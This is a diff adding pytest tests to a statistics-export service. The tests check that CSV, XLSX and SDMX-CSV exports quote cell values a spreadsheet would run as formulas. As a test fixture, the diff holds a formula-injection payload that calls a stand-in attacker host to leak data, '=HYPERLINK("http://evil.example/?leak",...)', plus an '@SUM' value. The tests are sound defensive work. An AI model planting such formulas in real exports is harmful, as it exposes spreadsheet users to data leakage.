@@ -5,6 +5,7 @@ and vintages of every value, and only what the caller may see."""
 from __future__ import annotations
 
 import csv
+import datetime as dt
 import io
 import json
 from pathlib import Path
@@ -13,7 +14,7 @@ from types import SimpleNamespace
 import pytest
 from fastapi.testclient import TestClient
 from openpyxl import load_workbook
-from sqlalchemy import select
+from sqlalchemy import delete, select
 from sqlalchemy.orm import Session
 from typer.testing import CliRunner
 
@@ -21,11 +22,13 @@ from atalaya.audit.models import AuditEntry
 from atalaya.cli import app as cli
 from atalaya.clitools import unit_of_work
 from atalaya.db import Database
-from atalaya.observatory.models import Source
-from atalaya.observatory.service import publish
+from atalaya.observatory import sdmx
+from atalaya.observatory.models import Observation, Series, Source
+from atalaya.observatory.query import EVERYTHING, IndicatorQuery
+from atalaya.observatory.service import indicator_values, publish
 from atalaya.settings import Settings
 from conftest import TEST_CONTEXT
-from observatory.samples import VINTAGE, conapo_file, load_samples, sesnsp_file
+from observatory.samples import VINTAGE, conapo_file, load_samples, run_import, sesnsp_file
 
 NATIONAL_2021 = {"iccs": "0101", "area": "MX", "period": "2021"}
 FORMATS = ("csv", "xlsx", "sdmx-csv", "sdmx-json")
@@ -229,3 +232,87 @@ def test_the_command_refuses_a_format_not_offered(cli_env: Settings) -> None:
     assert result.exit_code == 1 and "OBS-116" in result.output
     helped = runner.invoke(cli, ["stats", "export", "--help"])
     assert "sdmx-csv" in helped.output and "--national-category" in helped.output
+
+
+# Text a spreadsheet would run, typed by a publisher into its file and read in through
+# an SDMX-CSV import: a national category and a publisher's name.
+FORMULA = '=HYPERLINK("http://evil.example/?leak","Ver")'
+PUBLISHER = "@SUM(A1:A9)"
+PLANTED = {"iccs": "0101", "area": "MX-CHH", "period": "2021", "national_category": FORMULA}
+
+
+def forget_observations(db: Database, publisher: str) -> None:
+    """Delete the publisher's source, series and observations (the populations stay)."""
+    with unit_of_work(SimpleNamespace(db=db)) as session:  # type: ignore[arg-type]
+        sources = select(Source.id).where(Source.publisher == publisher).scalar_subquery()
+        series = select(Series.id).where(Series.source_id.in_(sources)).scalar_subquery()
+        session.execute(delete(Observation).where(Observation.series_id.in_(series)))
+        session.execute(delete(Series).where(Series.source_id.in_(sources)))
+        session.execute(delete(Source).where(Source.id.in_(sources)))
+
+
+@pytest.fixture
+def planted(db: Database, session: Session, tmp_path: Path) -> None:
+    """The samples' yearly homicides, stored again from an SDMX-CSV file whose publisher
+    and national category are formulas; published."""
+    load_samples(db, tmp_path)
+    query = IndicatorQuery(iccs="0101", frequency="A")
+    text = sdmx.write_csv(indicator_values(session, query, EVERYTHING)).decode("utf-8")
+    header, *lines = csv.reader(io.StringIO(text))
+    for line in lines:
+        line[header.index("SOURCE")] = f"{PUBLISHER}: IDEFC"
+        line[header.index("NATIONAL_CATEGORY")] = FORMULA
+    out = io.StringIO()
+    csv.writer(out).writerows([header, *lines])
+    (tmp_path / "planted.csv").write_text(out.getvalue(), encoding="utf-8")
+    forget_observations(db, "SESNSP")
+    run_import(db, tmp_path / "planted.csv", "sdmx-csv")
+    publish_all(db)
+
+
+@pytest.mark.usefixtures("planted")
+def test_a_csv_export_quotes_text_a_spreadsheet_would_run(client: TestClient) -> None:
+    (row,) = csv_rows(client, **PLANTED)
+    assert row["national_category"] == "'" + FORMULA
+    assert row["publisher"] == "'" + PUBLISHER
+    assert (row["value"], row["vintage"], row["population_vintage"]) == (
+        "156", "2022-05-01", "2023-01-01"
+    )  # fmt: skip
+    assert float(row["rate_per_100k"]) == pytest.approx(78.0)
+
+
+@pytest.mark.usefixtures("planted")
+def test_an_xlsx_export_quotes_text_a_spreadsheet_would_run(client: TestClient) -> None:
+    book = load_workbook(io.BytesIO(exported(client, "xlsx", **PLANTED)))
+    header, row = book["data"].iter_rows()
+    found = {h.value: cell for h, cell in zip(header, row, strict=True)}
+    assert found["national_category"].value == "'" + FORMULA
+    assert found["national_category"].data_type == "s"  # text, not a formula
+    assert found["publisher"].value == "'" + PUBLISHER
+    assert found["value"].value == 156 and found["value"].data_type == "n"
+    assert found["vintage"].value.date() == dt.date(2022, 5, 1)
+    sources = [[c.value for c in r] for r in book["sources"].iter_rows(min_row=2)]
+    assert ["observations", "'" + PUBLISHER, "IDEFC"] in [r[:3] for r in sources]
+    assert ["national_category", "'" + FORMULA] in [
+        [c.value for c in r] for r in book["query"].iter_rows()
+    ]
+
+
+@pytest.mark.usefixtures("planted")
+def test_an_sdmx_csv_export_quotes_text_a_spreadsheet_would_run_and_reads_back_as_typed(
+    client: TestClient, db: Database, session: Session, tmp_path: Path
+) -> None:
+    body = exported(client, "sdmx-csv", **PLANTED)
+    rows = list(csv.DictReader(io.StringIO(body.decode("utf-8"))))
+    count = next(r for r in rows if r["INDICATOR"] == "offences")
+    assert count["SOURCE"] == f"'{PUBLISHER}: IDEFC"
+    assert count["NATIONAL_CATEGORY"] == "'" + FORMULA
+    assert (count["OBS_VALUE"], count["VINTAGE"]) == ("156", "2022-05-01")
+    # SDMX-JSON is not opened by spreadsheets: written as stored.
+    assert f'"{PUBLISHER}: IDEFC"' in exported(client, "sdmx-json", **PLANTED).decode("utf-8")
+    # Read back, the quotes are gone: the values are stored as they were typed.
+    (tmp_path / "again.csv").write_bytes(body)
+    forget_observations(db, PUBLISHER)
+    run_import(db, tmp_path / "again.csv", "sdmx-csv")
+    assert PUBLISHER in session.scalars(select(Source.publisher)).all()
+    assert session.scalars(select(Series.national_code).distinct()).all() == [FORMULA]
